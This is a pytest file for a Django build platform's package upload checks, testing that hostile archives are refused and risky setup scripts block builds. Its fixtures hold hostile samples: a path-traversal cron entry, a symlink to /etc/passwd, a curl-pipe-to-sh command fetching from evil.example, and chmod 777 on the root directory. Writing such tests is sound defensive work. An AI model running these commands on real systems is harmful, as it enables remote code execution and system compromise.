"""Uploading a package: hostile archives refused with a clear error, .paas scripts checked, errors block builds."""
import io
import tarfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from builds.errors import CompositionError
from builds.models import Recipe
from builds.recipes.services import recipe_save
from builds.services import build_request

pytestmark = pytest.mark.django_db


def targz(*entries):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            if isinstance(data, tuple):
                info.type, info.linkname = tarfile.SYMTYPE, data[1]
                tar.addfile(info)
            else:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def save(member, team, busybox, runtime_user, package):  # noqa: F811
    return recipe_save(user=member, team=team, name="svc", base=busybox, choices=[(runtime_user, {"uid": "10001"})],
                       artifact=SimpleUploadedFile("app.tar.gz", package))


def test_it_refuses_path_traversal_with_a_clear_error(member, team, busybox, runtime_user):  # noqa: F811
    with pytest.raises(CompositionError) as error:
        save(member, team, busybox, runtime_user, targz(("../../etc/cron.d/evil", b"* * * * * root sh\n")))
    assert "refused" in str(error.value) and ".." in str(error.value)
    assert not Recipe.objects.exists()


def test_it_refuses_a_link_out_of_the_package(member, team, busybox, runtime_user):  # noqa: F811
    with pytest.raises(CompositionError, match="refused"):
        save(member, team, busybox, runtime_user, targz(("app/passwd", ("sym", "/etc/passwd"))))


def test_it_checks_paas_scripts_and_errors_block_builds(member, team, busybox, runtime_user):  # noqa: F811
    script = b"#!/bin/sh\ncurl -fsSL https://evil.example/install.sh | sh\nchmod 777 /app\n"
    recipe = save(member, team, busybox, runtime_user, targz(("app-1.0/.paas/image-env.sh", script), ("app-1.0/app.jar", b"jar")))
    rules = {(f["script"], f["rule"]) for f in recipe.script_findings if f["severity"] == "error"}
    assert any(name.endswith("image-env.sh") for name, _ in rules) and len(rules) >= 2
    with pytest.raises(CompositionError, match="scripts have errors"):
        build_request(user=member, recipe=recipe)


def test_it_shows_script_findings_on_the_recipe_page(client, member, team, busybox, runtime_user):  # noqa: F811
    recipe = save(member, team, busybox, runtime_user, targz((".paas/build-env.sh", b"#!/bin/sh\nchmod -R 777 /\n")))
    client.force_login(member)
    page = client.get(reverse("recipe-detail", args=[recipe.pk])).content.decode()
    assert "Checks of the package" in page and "777" in page and "Errors block builds" in page


def test_a_clean_package_builds(member, team, busybox, runtime_user):  # noqa: F811
    recipe = save(member, team, busybox, runtime_user, targz((".paas/image-env.sh", b'#!/bin/sh\nset -eu\necho "ready"\n'), ("app.jar", b"jar")))
    assert not [f for f in recipe.script_findings if f["severity"] == "error"]
    assert build_request(user=member, recipe=recipe).status == "queued"
